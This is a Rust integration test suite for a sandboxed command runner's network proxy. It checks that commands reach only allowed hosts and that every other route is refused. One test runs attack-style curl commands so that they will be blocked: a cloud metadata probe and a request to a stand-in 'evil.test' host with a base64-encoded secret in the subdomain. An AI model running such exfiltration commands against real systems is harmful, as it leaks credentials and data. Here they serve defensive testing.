//! Commands that reach the hosts that were allowed, by the network proxy, and nothing else.

use std::fs;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};

use offshoot_needs::needs;
use offshoot_tests::product::{Place, document_of, with_json};
use offshoot_tests::user::{User, give_away};
use serde_json::Value;

use crate::transcript::demo_vault;

/// A web server at an address of this machine that no variable excepts from the proxy.
struct Server {
    child: Child,
    port: u16,
}

impl Server {
    fn of(directory: &Path) -> Self {
        Self::at("127.0.0.2", directory)
    }

    fn at(address: &str, directory: &Path) -> Self {
        let mut child = Command::new("python3")
            .args(["-u", "-m", "http.server", "0", "--bind", address, "--directory"])
            .arg(directory)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let mut words = line.split_whitespace().skip_while(|word| *word != "port");
        let port = words.nth(1).unwrap().parse().unwrap();
        Self { child, port }
    }

    /// What a command needs to reach it.
    fn allow(&self) -> String {
        format!("allow=127.0.0.2:{}", self.port)
    }

    fn address(&self) -> String {
        format!("127.0.0.2:{}", self.port)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

/// A place, and a server that says `hello`.
fn scene() -> (Place, Server, tempfile::TempDir) {
    let files = tempfile::tempdir().unwrap();
    fs::write(files.path().join("index.html"), "hello\n").unwrap();
    let server = Server::of(files.path());
    (demo_vault(), server, files)
}

fn exec(place: &Place, net: &[&str], text: &str) -> Output {
    let nets: Vec<&str> = net.iter().flat_map(|net| ["--net", net]).collect();
    place.run([&["exec"], &nets[..], &["--shell", text]].concat())
}

fn network(place: &Place, net: &str, text: &str) -> Value {
    let arguments = ["exec", "--net", net, "--shell", text];
    document_of(&place.run(with_json(&arguments)))["result"]["network"].clone()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Every way to a server, with the route that is recorded for it.
fn ways(server: &Server) -> [(&'static str, String); 5] {
    let address = server.address();
    let direct = format!(
        "import socket; s = socket.create_connection((\"127.0.0.2\", {})); s.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); print(s.makefile().read())",
        server.port
    );
    let urllib = format!(
        "import urllib.request; print(urllib.request.urlopen(\"http://{address}/\").read().decode())"
    );
    [
        ("http", format!("curl -sS http://{address}/")),
        ("http", format!("python3 -c '{urllib}'")),
        ("connect", format!("curl -sS -p http://{address}/")),
        ("socks", format!("curl -sS -x socks5h://127.0.0.1:3128 http://{address}/")),
        ("direct", format!("python3 -c '{direct}'")),
    ]
}

#[needs(UserNamespace, "python3", "curl")]
#[test]
fn allowed_hosts_are_reached_by_every_way() {
    let (place, server, _files) = scene();
    for (route, way) in ways(&server) {
        let output = exec(&place, &[&server.allow()], &way);
        assert!(text(&output.stdout).contains("hello"), "{way}: {output:?}");
        let told = network(&place, &server.allow(), &way);
        assert_eq!(told["mode"], "proxy");
        let connection = &told["connections"][0];
        assert_eq!((&connection["route"], &connection["allowed"]), (&route.into(), &true.into()));
        assert_eq!(connection["address"], server.address());
    }
    let user = User::new();
    give_away(place.path());
    for (_, way) in ways(&server) {
        let output = user.run(&place, &["exec", "--net", &server.allow(), "--shell", &way]);
        assert!(text(&output.stdout).contains("hello"), "{way}: {output:?}");
    }
}

#[needs(UserNamespace, "python3", "curl")]
#[test]
fn nothing_else_is_reached() {
    let (place, server, _files) = scene();
    // The server is there, and somebody else was allowed.
    for (_, way) in ways(&server) {
        for net in ["allow=example.invalid", "proxy", "none"] {
            let output = exec(&place, &[net], &way);
            assert!(!text(&output.stdout).contains("hello"), "{net} {way}: {output:?}");
        }
    }
    // Without the wall the server is reached.
    for (_, way) in [&ways(&server)[0], &ways(&server)[4]] {
        let output = exec(&place, &["host"], way);
        assert!(text(&output.stdout).contains("hello"), "{way}: {output:?}");
    }
    let allow = server.allow();
    for (attack, host) in [
        ("curl -sS http://169.254.169.254/latest/meta-data/", "169.254.169.254"),
        ("curl -sS https://93.184.216.34/", "93.184.216.34"),
        ("curl -sS --noproxy '*' http://c2VjcmV0.evil.test/", "c2vjcmv0.evil.test"),
        ("curl -sS http://evil.test/", "evil.test"),
    ] {
        let told = network(&place, &allow, attack);
        let refused = &told["refused"][0];
        assert_eq!(refused["host"], host, "{attack}: {told}");
        assert_eq!(refused["option"], format!("--net allow={host}"));
        let output = exec(&place, &[&allow], attack);
        let line = format!("network: {host} is not allowed: add --net allow={host}");
        assert!(text(&output.stderr).contains(&line), "{attack}: {output:?}");
    }
}

/// Asks the name server for a text of an allowed name, and other servers for anything.
const QUESTIONS: &str = r#"
import socket
def ask(server, name, kind):
    question = bytes([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
    question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + bytes([0, 0, kind, 0, 1])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    try:
        s.connect((server, 53)); s.send(question); answer = s.recv(512)
    except OSError as error: return type(error).__name__
    return "code %d, %d answers" % (answer[3] & 15, answer[7])
print(ask("127.0.0.1", "a.test", 1), ask("127.0.0.1", "a.test", 16), ask("127.0.0.1", "secret.test", 1), ask("8.8.8.8", "a.test", 1), sep="|")
"#;

/// Where programs look for the name server.
const RESOLVER: &str = "/etc/resolv.conf";

#[needs(UserNamespace, "python3")]
#[test]
fn questions_for_names_carry_nothing_out() {
    let place = demo_vault();
    place.write("ask.py", QUESTIONS);
    let output = exec(&place, &["allow=a.test"], "cat /etc/resolv.conf; python3 ask.py");
    let expected = "nameserver 127.0.0.1\ncode 0, 1 answers|code 5, 0 answers|code 3, 0 answers|ConnectionRefusedError\n";
    assert_eq!(text(&output.stdout), expected, "{output:?}");
    // Also where that of the host is shown.
    let shown = ["exec", "--net", "allow=a.test", "--show", RESOLVER, "cat", RESOLVER];
    assert_eq!(text(&place.run(shown).stdout), "nameserver 127.0.0.1\n");
}

#[needs(UserNamespace, "python3", "git")]
#[test]
fn git_clones_by_the_proxy() {
    let (place, server, files) = scene();
    let git = |arguments: &[&str]| {
        let output = Command::new("git")
            .current_dir(files.path())
            .args(["-c", "user.name=a", "-c", "user.email=a@b.test"])
            .args(arguments)
            .output()
            .unwrap();
        assert!(output.status.success(), "{output:?}");
    };
    git(&["init", "-q", "work"]);
    fs::write(files.path().join("work/file"), "cloned\n").unwrap();
    git(&["-C", "work", "add", "file"]);
    git(&["-C", "work", "commit", "-qm", "one"]);
    git(&["clone", "-q", "--bare", "work", "repository.git"]);
    git(&["-C", "repository.git", "update-server-info"]);
    let clone =
        format!("git clone -q http://{}/repository.git copy && cat copy/file", server.address());
    let output = exec(&place, &[&server.allow()], &clone);
    assert_eq!(text(&output.stdout), "cloned\n", "{output:?}");
    let output = exec(&place, &["allow=example.invalid"], &clone);
    assert_eq!(text(&output.stdout), "", "{output:?}");
}

#[needs(UserNamespace, "python3", "curl")]
#[test]
fn lists_add_up_and_variables_of_the_caller_stay() {
    let (place, server, _files) = scene();
    let get = format!("curl -sS http://{}/", server.address());
    let output = exec(&place, &["allow=registries,github", &server.allow()], &get);
    assert_eq!(text(&output.stdout), "hello\n", "{output:?}");
    let own = ["exec", "-e", "HTTP_PROXY=http://own.test", "--net", "allow=a.test", "--shell"];
    let shown = [&own[..], &["echo $HTTP_PROXY $http_proxy $https_proxy"]].concat();
    assert_eq!(text(&place.run(shown).stdout), "http://own.test http://127.0.0.1:3128\n");
    let setting = format!("exec.allow={}", server.address());
    let by_setting = ["-c", &setting, "exec", "--net", "proxy", "--shell", &get];
    let output = place.run(by_setting);
    assert_eq!(text(&output.stdout), "hello\n", "{output:?}");
}

#[test]
fn what_cannot_be_allowed_is_a_usage_error() {
    let place = demo_vault();
    for (net, problem) in [
        (&["allow=https://example.com/"][..], "write only the host: example.com"),
        (&["allow="], "allow= needs hosts"),
        (&["all"], "not one of none, proxy, host or allow=HOSTS"),
        (&["allow=a.test", "host"], "--net can be repeated with allow= only"),
    ] {
        let output = exec(&place, net, "true");
        assert_eq!(output.status.code(), Some(2), "{net:?}: {output:?}");
        assert!(text(&output.stderr).contains(problem), "{net:?}: {output:?}");
    }
}

/// Nobody listens at them: the kernel refuses, and counts.
#[needs(UserNamespace, "python3")]
#[test]
fn ports_that_no_rule_names_are_refused_and_told() {
    let (place, server, _files) = scene();
    let connect = |port: u16| {
        format!(
            "python3 -c 'import socket; socket.create_connection((\"127.0.0.2\", {port})).close()'"
        )
    };
    let other = format!("allow=127.0.0.2:{}", if server.port == 9 { 10 } else { 9 });
    let told = network(&place, &other, &connect(server.port));
    assert_eq!(told["attempted"], 1, "{told}");
    let output = exec(&place, &[&other], &connect(server.port));
    let line = "network: the command tried ports that no rule names: add --net allow=HOST:PORT";
    assert!(text(&output.stderr).contains(line), "{output:?}");
    let told = network(&place, &server.allow(), &connect(server.port));
    assert_eq!(told["attempted"], 0, "{told}");
}

/// Whichever of its names a rule has for it, and a program uses.
#[needs(UserNamespace, "python3", "curl")]
#[test]
fn the_names_of_this_machine_are_one_host() {
    let (place, _, files) = scene();
    let server = Server::at("127.0.0.1", files.path());
    let port = server.port;
    let get = |host: &str| format!("curl -sS http://{host}:{port}/");
    for allow in [
        format!("allow=localhost:{port},127.0.0.1:{port}"),
        format!("allow=127.0.0.1:{port},localhost:{port}"),
        format!("allow=127.0.0.1:{port}"),
        format!("allow=localhost:{port}"),
    ] {
        for host in ["localhost", "127.0.0.1"] {
            let output = exec(&place, &[&allow], &get(host));
            assert_eq!(text(&output.stdout), "hello\n", "{allow} {host}: {output:?}");
        }
    }
    // Another name at the same server is told like every refusal, with what allows it.
    let other = format!("curl -sS -H 'Host: a.test:{port}' http://127.0.0.1:{port}/");
    let allow = format!("allow=127.0.0.1:{port}");
    let told = network(&place, &allow, &other);
    let option = format!("--net allow=a.test:{port}");
    assert_eq!(told["refused"][0]["option"], option, "{told}");
    let output = exec(&place, &[&allow], &other);
    let line = format!(
        "network: connection to 127.0.0.1 refused: the Host header names another host, a.test: add {option}"
    );
    assert!(text(&output.stderr).contains(&line), "{output:?}");
    let output = exec(&place, &[&allow, &format!("allow=a.test:{port}")], &other);
    assert_eq!(text(&output.stdout), "hello\n", "{output:?}");
    // By its name no rule does.
    let told = network(&place, &format!("allow=localhost:{port}"), &other);
    assert_eq!(
        (&told["refused"][0]["host"], &told["refused"][0]["option"]),
        (&"localhost".into(), &Value::Null),
        "{told}"
    );
}

/// What would help names the port, where the command line or what the command printed has it.
#[needs(UserNamespace, "python3", "curl")]
#[test]
fn what_would_allow_it_names_the_port() {
    let place = demo_vault();
    for (net, command, expected) in [
        (
            "allow=a.test",
            "curl -sS --noproxy '*' http://registry.test:8081/",
            "allow=registry.test:8081",
        ),
        (
            "allow=a.test",
            "curl -sS http://localhost:18732/",
            "tried localhost:18732, which no rule names: add --net allow=localhost:18732",
        ),
        ("none", "curl -sS localhost:18732", "add --net allow=localhost:18732"),
        (
            "allow=a.test",
            "echo 'connect ECONNREFUSED 127.0.0.1:18732' >&2; python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 18732))'",
            "add --net allow=localhost:18732",
        ),
    ] {
        let output = exec(&place, &[net], command);
        assert!(text(&output.stderr).contains(expected), "{net} {command}: {output:?}");
    }
    let told = network(&place, "allow=a.test", "curl -sS --noproxy '*' http://registry.test:8081/");
    assert_eq!(told["refused"][0]["option"], "--net allow=registry.test:8081", "{told}");
    for (command, hosts) in [
        ("psql -h localhost -p 5577", "localhost:5577"),
        ("ssh -p 2222 git.test", "git.test:2222"),
        ("git clone ssh://git@git.test:2222/x", "git.test:2222"),
    ] {
        let output = exec(&place, &["none"], command);
        let line = format!("needs the network, which is off: add --net allow={hosts}\n");
        assert!(text(&output.stderr).contains(&line), "{command}: {output:?}");
    }
    // Settings of the project name another registry than everybody's.
    place.write(".npmrc", "registry=http://localhost:18732/\n");
    let output = place.run(["exec", "--", "npm", "view", "left-pad"]);
    let line = "npm view needs the network, which is off: add --net allow=localhost:18732";
    assert!(text(&output.stderr).contains(line), "{output:?}");
}
